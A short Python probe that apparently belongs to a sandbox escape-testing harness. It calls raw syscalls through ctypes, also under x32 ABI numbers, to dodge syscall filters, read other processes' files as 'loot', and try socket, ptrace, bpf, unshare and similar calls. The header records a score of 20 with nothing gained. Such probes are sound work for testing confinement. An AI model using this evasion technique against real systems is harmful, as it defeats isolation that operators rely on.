"""Go round Python: the same calls by number, also under the numbers of the x32 table.

gains: nothing
score: 20
outcome: completed
"""

import ctypes

from kit import TARGETS, drive, gained, libc

X32 = 0x40000000


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *arguments)


buffer = ctypes.create_string_buffer(64)
for path in TARGETS.get("files", ()):
    for base in (0, X32):
        fd = call(base + 2, path.encode(), 0)
        if fd >= 0 and call(0, fd, buffer, ctypes.c_size_t(64)) > 0:
            print(f"LOOT {buffer.raw!r}")
            gained("reads files that are not its own: by number")
for base in (0, X32):
    for number, name, arguments in (
        (41, "socket", (2, 1, 0)),
        (41, "socket", (1, 1, 0)),
        (101, "ptrace", (0, 0, 0, 0)),
        (272, "unshare", (0,)),
        (321, "bpf", (0, None, 0)),
        (298, "perf_event_open", (None, 0, -1, -1, 0)),
        (323, "userfaultfd", (1,)),
        (319, "memfd_create", (b"x", 0)),
    ):
        if call(base + number, *arguments) >= 0:
            gained(
                f"uses calls of the kernel that no node needs: {name}{' of x32' if base else ''}"
            )
drive()
